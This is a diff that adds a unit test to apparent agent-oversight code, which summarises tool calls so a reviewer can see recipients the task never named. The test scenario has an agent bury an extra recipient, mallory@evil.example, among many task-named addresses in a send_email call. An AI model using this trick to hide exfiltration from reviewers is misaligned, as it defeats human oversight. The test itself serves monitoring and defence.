@@ -147,6 +147,16 @@ def test_targets_say_where_their_values_come_from_where_that_is_known() -> None:
     assert found["targets"] == [{"path": "to", "value": "bob@corp.example", "source": "task"}]
 
 
+def test_of_many_targets_those_that_nobody_trusted_has_named_are_listed() -> None:
+    """An agent that hides one behind all whom the task names would show a reviewer only these."""
+    asked = [f"person{number}@corp.example" for number in range(MOST_LISTED + 5)]
+    memory = RunMemory(1, values=NO_VALUES.with_task(f"write to {', '.join(asked)}"))
+    call = ToolCall.of(toolName="send_email", inputPayload={"to": [*asked, "mallory@evil.example"]})
+    found = summary_of(ToolCall({**call.document, BEFORE: memory}), TOOLS)
+    assert [each["value"] for each in found["targets"]] == [*asked[: MOST_LISTED - 1], "mallory@evil.example"]
+    assert found["targets"][-1]["source"] == "unseen" and found["more"]["targets"] == 6
+
+
 @examples(75, 1_500)
 @given(
     st.sampled_from(["Bash", "send_email", "pay", "query", "odd\ud800"]),
